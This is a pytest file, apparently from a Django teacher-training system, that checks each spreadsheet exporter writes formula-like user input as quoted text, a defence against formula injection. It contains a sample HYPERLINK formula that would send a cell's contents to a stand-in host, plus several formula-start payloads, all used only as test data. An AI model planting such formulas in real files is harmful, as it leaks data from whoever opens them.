"""No export writes a live formula. A name typed into a form or a file — "=HYPERLINK(…)" — reaches
every spreadsheet the system writes as text, with Excel's quote prefix, never as a formula.

Every exporter is found in the code (every call of `write_xlsx` or `new_workbook`, and no workbook
opened any other way) and each must be exercised here: a new exporter fails
`test_every_exporter_is_exercised` until it is added to EXERCISED."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from bdtx.catalog.models import Catalog, Module
from bdtx.core.tests.xlsx import build_xlsx
from bdtx.imports.tests.jobs import run_upload
from bdtx.organisations.models import Unit
from bdtx.people.models import Person
from bdtx.plans.tests.unit_fixtures import make_catalogue, plan_for
from bdtx.standards.models import Assessment

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent / "bdtx"
EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")'
EVIL_STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1", "\r=1"]


def _cells(content: bytes) -> list[tuple[str, str, str, bool]]:
    """Every text or formula cell of the workbook: (sheet, cell, text, quoted), where a formula cell
    reads "<f>" and `quoted` says whether the cell's style carries Excel's quote prefix."""
    z = zipfile.ZipFile(io.BytesIO(content))
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        shared = [_text(si) for si in re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode(), re.S)]
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", z.read("xl/styles.xml").decode(), re.S)
    styles = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1) if xfs else "", re.S)
    quoted_styles = {i for i, xf in enumerate(styles) if 'quotePrefix="1"' in xf}
    out = []
    for name in z.namelist():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        for attrs, body in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", z.read(name).decode(), re.S):
            ref = re.search(r'r="([A-Z]+\d+)"', attrs).group(1)  # type: ignore[union-attr]
            style = int(m.group(1)) if (m := re.search(r's="(\d+)"', attrs)) else 0
            if "<f>" in body or "<f " in body:
                out.append((name, ref, "<f>", False))
            elif 't="s"' in attrs:
                index = int(re.search(r"<v>(\d+)</v>", body).group(1))  # type: ignore[union-attr]
                out.append((name, ref, shared[index], style in quoted_styles))
            elif 't="inlineStr"' in attrs or 't="str"' in attrs:
                out.append((name, ref, _text(body), style in quoted_styles))
    return out


def _text(xml: str) -> str:
    import html

    text = html.unescape("".join(re.findall(r"<t[^>]*>(.*?)</t>", xml, re.S)))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)  # OOXML escapes of controls


def assert_text_not_formula(content: bytes, *texts: str) -> None:
    cells = _cells(content)
    assert not [c for c in cells if c[2] == "<f>"], "a cell holds a formula"
    for text in texts:
        found = [c for c in cells if text in c[2]]
        assert found, f"{text!r} is not in the file"
        starts = [c for c in found if c[2].startswith(text)]
        assert all(c[3] for c in starts), f"{text!r} is written without the quote prefix: {starts}"


def _get(client, url: str, **params: str) -> bytes:  # type: ignore[no-untyped-def]
    r = client.get(url, params)
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.openxmlformats"), url
    return r.content


# --- each exporter --------------------------------------------------------------------------------


def staff_list(world, login) -> None:  # type: ignore[no-untyped-def]
    Person.objects.filter(pk=world.people["teacher_a1"].pk).update(family_name=EVIL, phone="+84912345678")
    assert_text_not_formula(_get(login(world.users["principal_a1"]), reverse("people:export")), EVIL, "+84912345678")


def unit_list(world, login) -> None:  # type: ignore[no-untyped-def]
    Unit.objects.filter(pk=world.u("th_a1").pk).update(name=EVIL, address="@SUM(1)")
    assert_text_not_formula(_get(login(world.users["so_a"]), reverse("organisations:export")), EVIL, "@SUM(1)")


def catalog(world, login) -> None:  # type: ignore[no-untyped-def]
    cat = Catalog.objects.order_by("pk").first()
    assert cat is not None
    Module.objects.filter(pk=cat.modules.order_by("pk").first().pk).update(title=EVIL, outcomes="-1+2")  # type: ignore[union-attr]
    content = _get(login(world.users["sysadmin"]), reverse("catalog:export", args=[cat.uuid]))
    assert_text_not_formula(content, EVIL, "-1+2")


def assessments(world, login) -> None:  # type: ignore[no-untyped-def]
    from bdtx.core.selectors import school_year_current
    from bdtx.standards.models import Framework

    person = world.people["teacher_a1"]
    Assessment.objects.create(
        person=person,
        unit=world.u("th_a1"),
        school_year=school_year_current(),
        framework=Framework.objects.get(code="tt20_2018_gvpt"),
    )
    Person.objects.filter(pk=person.pk).update(family_name=EVIL)
    assert_text_not_formula(_get(login(world.users["principal_a1"]), reverse("standards:export")), EVIL)


def import_problems(world, login) -> None:  # type: ignore[no-untyped-def]
    rows = [["Họ và tên", "Giới tính", "Số định danh"], [EVIL, "Nữ", "=1+2"], ["+Tên Lạ", "Nam", "@SUM(1)"]]
    job = run_upload(kind="staff", content=build_xlsx(rows), user=world.users["principal_a1"], unit=world.u("th_a1"))
    assert job.problems
    content = _get(login(world.users["principal_a1"]), reverse("imports:errors", args=[job.uuid]))
    assert_text_not_formula(content, "=1+2", "@SUM(1)", "+Tên Lạ")


def participants(world, login) -> None:  # type: ignore[no-untyped-def]
    cat = make_catalogue(world)
    Module.objects.filter(pk=cat.modules[0].pk).update(title=EVIL)
    cat.modules[0].refresh_from_db()
    plan_for(world.people["teacher_a1"], world.u("th_a1"), cat, modules=(0,))
    Person.objects.filter(pk=world.people["teacher_a1"].pk).update(middle_name="@SUM(1)")
    url = reverse("plans:unit_participants", args=[world.u("th_a1").uuid])
    assert_text_not_formula(_get(login(world.users["principal_a1"]), url), "@SUM(1)", EVIL.split("(")[0][1:])


def staff_template(world, login) -> None:  # type: ignore[no-untyped-def]
    Unit.objects.filter(pk=world.u("th_a1").pk).update(name=EVIL)
    content = _get(login(world.users["principal_a1"]), reverse("imports:template", args=["staff"]))
    cells = _cells(content)
    assert not [c for c in cells if c[2] == "<f>"]
    assert any(c[2] == EVIL and c[3] for c in cells), "the unit's name is quoted text on the help sheet"


# module that opens a workbook → the exercises above that reach every workbook it writes
EXERCISED = {
    "people/views.py": [staff_list],
    "organisations/views.py": [unit_list],
    "catalog/exporters.py": [catalog],
    "standards/views.py": [assessments],
    "imports/exporters.py": [import_problems],
    "plans/unit/documents.py": [participants],
    "people/exporters.py": [staff_template],
    "core/exporters.py": [],  # the writer itself: every exercise goes through it
}


def lms_accounts(world, login) -> None:  # type: ignore[no-untyped-def]
    """The LMS account list of the world's cohort of province A (teacher_a2 enrolled, in a group)."""
    from bdtx.training.models import Cohort

    cohort = Cohort.objects.get(organiser=world.u("so_a"), programme="BD02")
    Person.objects.filter(pk=world.people["teacher_a2"].pk).update(family_name=EVIL, email="@SUM(1)")
    content = _get(login(world.users["so_a"]), reverse("training:lms_accounts_xlsx", args=[cohort.uuid]))
    assert_text_not_formula(content, EVIL, "@SUM(1)")


EXERCISED["training/lms.py"] = [lms_accounts]  # also the .csv → .xlsx conversion of an upload (text cells)


def scores_template(world, login) -> None:  # type: ignore[no-untyped-def]
    """The scores template of the world's cohort of province A: learners' names and component names are text."""
    from bdtx.training.models import AssessmentComponent, Cohort

    cohort = Cohort.objects.get(organiser=world.u("so_a"), programme="BD02")
    AssessmentComponent.objects.create(
        cohort=cohort, position=9, kind="other", name="+Điểm lạ", assessed_by="institution"
    )
    Person.objects.filter(pk=world.people["teacher_a2"].pk).update(family_name=EVIL, email="@SUM(1)")
    content = _get(login(world.users["so_a"]), reverse("training:scores_template", args=[cohort.uuid]))
    assert_text_not_formula(content, EVIL, "@SUM(1)", "+Điểm lạ")


EXERCISED["training/scores.py"] = [scores_template]


def survey_results(world, login) -> None:  # type: ignore[no-untyped-def]
    """A survey's results of the world's cohort of province A: open answers are text, never formulas."""
    from datetime import timedelta

    from django.utils import timezone

    from bdtx.core.scope import SYSTEM
    from bdtx.core.tests.factories import EmploymentFactory, as_person
    from bdtx.surveys import services
    from bdtx.surveys.models import QuestionKind
    from bdtx.training.models import Cohort, Enrolment

    cohort = Cohort.objects.get(organiser=world.u("so_a"), programme="BD02")
    qn = services.questionnaire_create(
        scope=SYSTEM,
        owner=None,
        title="Phiếu",
        status="published",
        questions=[services.QuestionSpec(QuestionKind.OPEN, "+Góp ý")],
    )
    today = timezone.localdate()
    survey = services.survey_attach(
        scope=SYSTEM, cohort=cohort, questionnaire=qn, opens_on=today, closes_on=today + timedelta(days=3)
    )
    texts = [EVIL, *EVIL_STARTS[:4]]
    for text in texts:
        person = EmploymentFactory(unit=world.u("thcs_a2")).person
        Enrolment.objects.create(cohort=cohort, person=person, unit=world.u("thcs_a2"), school_year=cohort.school_year)
        services.survey_answer(scope=as_person(person), survey=survey, answers={qn.questions.get().pk: text})
    content = _get(login(world.users["so_a"]), reverse("surveys:export", args=[survey.uuid]))
    assert_text_not_formula(content, *texts)


EXERCISED["surveys/views.py"] = [survey_results]


def year_report(world, login) -> None:  # type: ignore[no-untyped-def]
    """The yearly results report of a school whose name and a module's title look like formulas."""
    school = world.u("th_a1")
    Unit.objects.filter(pk=school.pk).update(name=EVIL)
    content = _get(login(world.users["principal_a1"]), reverse("yearreports:xlsx", args=[school.uuid, 2026]))
    assert_text_not_formula(content, EVIL)


EXERCISED["yearreports/documents.py"] = [year_report]


def dashboard_tables(world, login) -> None:  # type: ignore[no-untyped-def]
    """Every table of a dashboard: a unit's or a person's name is quoted text."""
    Unit.objects.filter(pk=world.u("th_a1").pk).update(name=EVIL)
    Person.objects.filter(pk=world.people["teacher_a1"].pk).update(family_name="@SUM(1)")
    client = login(world.users["xa_a1"])
    content = _get(client, reverse("dashboards:xlsx", args=[world.u("xa_a1").uuid]), table="units")
    assert_text_not_formula(content, EVIL)
    content = _get(client, reverse("dashboards:xlsx", args=[world.u("th_a1").uuid]), table="people")
    assert_text_not_formula(content, EVIL, "@SUM(1) Thị Đào")


EXERCISED["dashboards/views.py"] = [dashboard_tables]


def _writers() -> set[str]:
    found = set()
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{rel}" or "/migrations/" in rel:
            continue
        text = path.read_text()
        if re.search(r"\b(write_xlsx|new_workbook|xlsxwriter\.Workbook)\(", text):
            found.add(rel)
    return found


def test_every_exporter_is_exercised():
    assert _writers() == set(EXERCISED)


def test_no_workbook_is_opened_around_the_safe_writer():
    for rel in _writers() - {"core/exporters.py"}:
        assert "xlsxwriter.Workbook(" not in (ROOT / rel).read_text(), f"{rel}: open workbooks with new_workbook"


@pytest.mark.parametrize("exercise", [e for es in EXERCISED.values() for e in es], ids=lambda e: e.__name__)
def test_a_malicious_name_is_text_in_every_export(world, login, exercise):
    exercise(world, login)


@pytest.mark.parametrize("start", EVIL_STARTS)
def test_every_formula_start_is_written_as_quoted_text(start):
    from bdtx.core.exporters import Column, write_xlsx

    content = write_xlsx(
        title=start, subtitle=start, columns=[Column(start), Column("b", kind="text")], rows=[[start, start]]
    )
    cells = _cells(content)
    assert not [c for c in cells if c[2] == "<f>"]
    assert [c for c in cells if c[2] == start] and all(c[3] for c in cells if c[2] == start)


def historic_results_template(world, login) -> None:  # type: ignore[no-untyped-def]
    """The historic results template: the unit's name in its title row is quoted text."""
    Unit.objects.filter(pk=world.u("xa_a1").pk).update(name=EVIL)  # the commune office imports them
    content = _get(login(world.users["xa_a1"]), reverse("imports:template", args=["historic_results"]))
    cells = _cells(content)
    assert not [c for c in cells if c[2] == "<f>"]
    assert any(c[2] == EVIL.upper() and c[3] for c in cells), "the unit's name is quoted text"


EXERCISED["results/importers.py"] = [historic_results_template]
